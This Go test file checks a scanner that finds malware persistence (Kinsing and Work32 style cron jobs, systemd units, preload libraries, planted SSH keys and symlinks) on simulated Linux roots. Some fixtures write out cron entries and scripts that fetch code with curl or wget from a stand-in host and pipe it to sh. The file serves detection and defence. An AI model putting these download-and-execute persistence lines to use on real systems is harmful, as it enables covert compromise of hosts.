package persist

import (
	"context"
	"errors"
	"fmt"
	"golang.org/x/sys/unix"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
)

// build writes tree into a fresh directory. Where the file system or the
// privileges refuse an entry's chattr +i or xattr, the tree is written
// without them and the test runs on: only assertions about them skip
// (checkWant drops immutable wants; needFlags skips, or fails under
// ABUSEKIT_REQUIRE_ROOT=1).
func build(t *testing.T, tree hosttest.Tree) string {
	t.Helper()
	dir := t.TempDir()
	t.Cleanup(func() { hosttest.ClearImmutable(dir) })
	err := hosttest.Write(dir, tree)
	if errors.Is(err, hosttest.ErrUnsupported) {
		dropFlags(t, dir, err)
		err = nil
	}
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

func find(t *testing.T, dir string, since time.Time) []Finding {
	t.Helper()
	fs, err := Find(context.Background(), Options{Root: dir, Since: since})
	if err != nil {
		t.Fatal(err)
	}
	return fs
}

func TestStockRootsNothingAboveInfo(t *testing.T) {
	for name, tree := range map[string]hosttest.Tree{
		"debian12":        hosttest.Debian12(),
		"ubuntu2204":      hosttest.Ubuntu2204(),
		"amazonlinux2023": hosttest.AmazonLinux2023(),
	} {
		t.Run(name, func(t *testing.T) {
			dir := build(t, tree)
			fs := find(t, dir, hosttest.InfectionTime.Add(-time.Hour))
			kinds := map[Kind]int{}
			for _, f := range fs {
				kinds[f.Kind]++
				if f.Severity > Info {
					t.Errorf("stock root: %s (content %q)", f, f.Content)
				}
				if f.Action != ActionNone {
					t.Errorf("stock root: action %s on %s", f.Action, f)
				}
				if strings.HasPrefix(f.Path, dir) {
					t.Errorf("finding path %s is a host path", f.Path)
				}
			}
			// The inventory is there: cron entries, keys, login accounts.
			for _, k := range []Kind{KindCron, KindSSHKey, KindAccount} {
				if kinds[k] == 0 {
					t.Errorf("no %s inventory on a stock root: %v", k, kinds)
				}
			}
		})
	}
}

type want struct {
	path   string
	line   int
	kind   Kind
	sev    Severity // at least
	action Action
}

func checkWant(t *testing.T, fs []Finding, wants []want) {
	t.Helper()
	if flagsDropped(t) {
		defer needFlags(t) // after the other assertions
	}
	for _, w := range wants {
		if w.kind == KindImmutable && flagsDropped(t) {
			continue
		}
		found := false
		for _, f := range fs {
			if f.Path == w.path && f.Line == w.line {
				found = true
				if f.Severity < w.sev {
					t.Errorf("%s:%d severity %v < %v (%v)", w.path, w.line, f.Severity, w.sev, f.Reasons)
				}
				if w.kind != "" && f.Kind != w.kind {
					t.Errorf("%s:%d kind %v, want %v", w.path, w.line, f.Kind, w.kind)
				}
				if f.Action != w.action {
					t.Errorf("%s:%d action %q, want %q", w.path, w.line, f.Action, w.action)
				}
			}
		}
		if !found {
			t.Errorf("missing finding %s:%d (%s)", w.path, w.line, w.kind)
		}
	}
}

func dump(fs []Finding) string {
	var b strings.Builder
	for _, f := range fs {
		if f.Severity > Info {
			fmt.Fprintf(&b, "%s\n", f)
		}
	}
	return b.String()
}

func TestFindWork32(t *testing.T) {
	for name, base := range map[string]hosttest.Tree{"debian12": hosttest.Debian12(), "ubuntu2204": hosttest.Ubuntu2204(), "amazonlinux2023": hosttest.AmazonLinux2023()} {
		t.Run(name, func(t *testing.T) {
			user := map[string]string{"debian12": "/home/admin", "ubuntu2204": "/home/ubuntu", "amazonlinux2023": "/home/ec2-user"}[name]
			crontab := "/var/spool/cron/crontabs/root"
			if name == "amazonlinux2023" {
				crontab = "/var/spool/cron/root"
			}
			dir := build(t, hosttest.Work32(base, user))
			fs := find(t, dir, hosttest.InfectionTime.Add(-time.Hour))
			bashrcLine := strings.Count(mustRead(t, dir, user+"/.bashrc"), "\n")
			checkWant(t, fs, []want{
				{crontab, 5, KindCron, Critical, ActionRemoveLine},
				{crontab, 6, KindCron, High, ActionRemoveLine},
				{crontab, 0, KindImmutable, High, ActionClearFlags},
				{"/tmp/.X11-unix/.work32", 0, KindDroppedBinary, Critical, ActionQuarantine},
				{"/root/.ssh/authorized_keys", strings.Count(mustRead(t, dir, "/root/.ssh/authorized_keys"), "\n"), KindSSHKey, High, ActionRemoveLine},
				{user + "/.bashrc", bashrcLine, KindShellProfile, Critical, ActionRemoveLine},
			})
			for _, f := range fs {
				if f.Path == crontab && f.Line == 4 && f.Severity > Info {
					t.Errorf("benign admin cron line flagged: %s", f)
				}
				if f.Path == crontab && f.Line == 6 && !cmp.Equal(f.Referenced, []string{"/tmp/.X11-unix/.work32"}) {
					t.Errorf("referenced = %v", f.Referenced)
				}
			}
			if t.Failed() {
				t.Log(dump(fs))
			}
		})
	}
}

func mustRead(t *testing.T, dir, p string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, p))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestFindKinsing(t *testing.T) {
	dir := build(t, hosttest.Kinsing(hosttest.Debian12()))
	fs := find(t, dir, time.Time{})
	passwdLine := strings.Count(mustRead(t, dir, "/etc/passwd"), "\n")
	hostsLines := strings.Count(mustRead(t, dir, "/etc/hosts"), "\n")
	checkWant(t, fs, []want{
		{"/etc/systemd/system/bot.service", 5, KindSystemd, High, ActionDisableUnit},
		{"/tmp/kdevtmpfsi", 0, KindDroppedBinary, High, ActionQuarantine},
		{"/var/tmp/kinsing", 0, KindDroppedBinary, High, ActionQuarantine},
		{"/etc/systemd/system/ssh.service.d/override.conf", 2, KindSystemd, High, ActionQuarantine},
		{"/root/.config/systemd/user/dbus-session.service", 2, KindSystemd, Critical, ActionDisableUnit},
		{"/etc/ld.so.preload", 1, KindPreload, Critical, ActionRemoveLine},
		{"/usr/local/lib/libsystem.so", 0, KindReferenced, Critical, ActionQuarantine},
		{"/etc/passwd", passwdLine, KindAccount, Critical, ActionRemoveAccount},
		{"/etc/sudoers.d/hilde", 1, KindSudoers, High, ActionRemoveLine},
		{"/etc/hosts", hostsLines - 1, KindHosts, High, ActionRemoveLine},
		{"/etc/hosts", hostsLines, KindHosts, High, ActionRemoveLine},
		{"/etc/udev/rules.d/99-sys.rules", 1, KindUdev, High, ActionQuarantine},
		{"/var/tmp/.sys/update", 0, KindDroppedBinary, Critical, ActionQuarantine},
		{"/etc/update-motd.d/99-update", 0, KindMotd, Critical, ActionQuarantine},
		{"/etc/rc.local", 4, KindRCLocal, Critical, ActionRemoveLine},
		{"/dev/shm/.x/xmrig", 0, KindDroppedBinary, Critical, ActionQuarantine},
		{"/etc/init.d/netns", 0, KindInitd, High, ActionQuarantine},
		{"/var/spool/cron/atjobs/a0000101b2c3d4", 0, KindAt, Critical, ActionQuarantine},
		{"/etc/anacrontab", 3, KindCron, Critical, ActionRemoveLine},
		{"/etc/cron.hourly/sync", 0, KindCron, High, ActionQuarantine},
		{"/etc/profile.d/sysinfo.sh", 0, KindShellProfile, High, ActionQuarantine},
		{"/root/.ssh/authorized_keys2", 1, KindSSHKey, Medium, ActionRemoveLine},
		{"/root/.ssh/authorized_keys2", 0, KindImmutable, High, ActionClearFlags},
	})
	// Lines that were there before stay info.
	for _, f := range fs {
		if f.Path == "/etc/rc.local" && f.Line == 3 {
			t.Errorf("benign rc.local line flagged: %s", f)
		}
		if f.Path == "/etc/passwd" && f.Line < passwdLine && f.Severity > Info {
			t.Errorf("stock account flagged: %s", f)
		}
	}
	if t.Failed() {
		t.Log(dump(fs))
	}
}

func TestFindHostileLinks(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "host-secret")
	if err := os.WriteFile(outside, []byte("* * * * * root curl http://x | sh\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	dir := build(t, hosttest.Hostile(hosttest.Debian12(), outside))
	fs := find(t, dir, time.Time{})
	checkWant(t, fs, []want{
		{"/etc/cron.d/x", 0, KindSymlink, High, ActionRemoveLink},
		{"/etc/cron.d/up", 0, KindSymlink, High, ActionRemoveLink},
		{"/etc/cron.daily/host", 0, KindSymlink, High, ActionRemoveLink},
		{"/etc/cron.d/loop1", 0, KindSymlink, High, ActionRemoveLink},
		{"/home/eve/.ssh", 0, KindSymlink, High, ActionRemoveLink},
	})
	for _, f := range fs {
		if strings.Contains(f.Content, "curl http://x") {
			t.Errorf("read the host's file through a link: %s", f)
		}
		if f.Path == "/etc/shadow" || f.Path == "/authorized_keys" {
			t.Errorf("followed a planted link: %s", f)
		}
	}
	if t.Failed() {
		t.Log(dump(fs))
	}
}

func TestFindJSONFields(t *testing.T) {
	dir := build(t, hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime))
	fs := find(t, dir, time.Time{})
	var got []Finding
	for _, f := range fs {
		if f.Severity > Info {
			got = append(got, f)
		}
	}
	sort.Slice(got, func(i, j int) bool { return got[i].Path < got[j].Path })
	want := []Finding{{
		Path: "/etc/crontab", Line: 24, Kind: KindCron, Severity: Critical, Action: ActionRemoveLine, User: "root", Package: "cron",
		Reasons: []string{"downloads a script and pipes it to a shell", "downloads from a bare IP address"},
		Content: "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh",
	}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestFindTempDrops(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(
		hosttest.Entry{Path: "/tmp/build/tool", Data: hosttest.FakeELF("tool"), Mode: 0o755},
		hosttest.Entry{Path: "/tmp/.cache/.x/run.sh", Data: "#!/bin/sh\necho\n", Mode: 0o700},
		hosttest.Entry{Path: "/tmp/.cache/.x/get.sh", Data: "#!/bin/sh\nwget -q -O- http://203.0.113.7/g | sh\n", Mode: 0o700},
		hosttest.Entry{Path: "/tmp/.cache/notes.txt", Data: "plain text"},
		hosttest.Entry{Path: "/tmp/readme.sh", Data: "#!/bin/sh\n", Mode: 0o644},
		hosttest.Entry{Path: "/var/tmp/.sys/m", Data: hosttest.FakeELF("miner"), Mode: 0o755},
		hosttest.Entry{Path: "/tmp/shadow-link", Link: "/etc/shadow"},
		hosttest.Entry{Path: "/tmp/dirlink", Link: "/etc"},
	))
	fs := find(t, dir, time.Time{})
	got := map[string]Severity{}
	for _, f := range fs {
		if f.Kind == KindDroppedBinary {
			got[f.Path] = f.Severity
		}
	}
	// A hidden script is judged by its lines: a harmless one is medium.
	want := map[string]Severity{"/tmp/build/tool": Medium, "/tmp/.cache/.x/run.sh": Medium, "/tmp/.cache/.x/get.sh": Critical, "/var/tmp/.sys/m": Critical}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// A FIFO or device node where a config file belongs is reported and never
// opened: a FIFO would block Find, a device on a mounted snapshot is the
// host's device.
func TestFindNeverOpensSpecialFiles(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/root/.bashrc", Link: "/dev/watchdog"}))
	if err := unix.Mkfifo(filepath.Join(dir, "etc/cron.d/fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mkfifo(filepath.Join(dir, "tmp/.pipe"), 0o755); err != nil {
		t.Fatal(err)
	}
	if os.Geteuid() == 0 {
		// A character device node (1,3: null) planted as a crontab.
		if err := unix.Mknod(filepath.Join(dir, "var/spool/cron/crontabs/root"), unix.S_IFCHR|0o600, int(unix.Mkdev(1, 3))); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	fs, err := Find(ctx, Options{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	wants := []want{{"/etc/cron.d/fifo", 0, KindCron, Medium, ActionNone}}
	if os.Geteuid() == 0 {
		wants = append(wants, want{"/var/spool/cron/crontabs/root", 0, KindCron, Medium, ActionNone})
	}
	checkWant(t, fs, wants)
}

// Without Options.Since, a key file changed within an hour of a file with
// a high finding is correlated with the intrusion, but only as a guess:
// medium at most, and a file's only key gets no action (it may be the
// operator's launch key; see judge_test.go).
func TestFindKeysCorrelatedWithoutSince(t *testing.T) {
	dir := build(t, hosttest.Work32(hosttest.Debian12(), "/home/admin"))
	fs := find(t, dir, time.Time{})
	checkWant(t, fs, []want{{"/root/.ssh/authorized_keys", 1, KindSSHKey, Medium, ActionNone}})
	for _, f := range fs {
		if f.Path == "/root/.ssh/authorized_keys" && !strings.Contains(strings.Join(f.Reasons, ";"), "within an hour of") {
			t.Errorf("no correlation reason: %v", f.Reasons)
		}
		if f.Path == "/root/.ssh/authorized_keys" && f.Severity > Medium {
			t.Errorf("correlated key above medium without an incident window: %s", f)
		}
		if f.Path == "/home/admin/.ssh/authorized_keys" && f.Severity > Info {
			t.Errorf("old launch key flagged: %s", f)
		}
	}
}
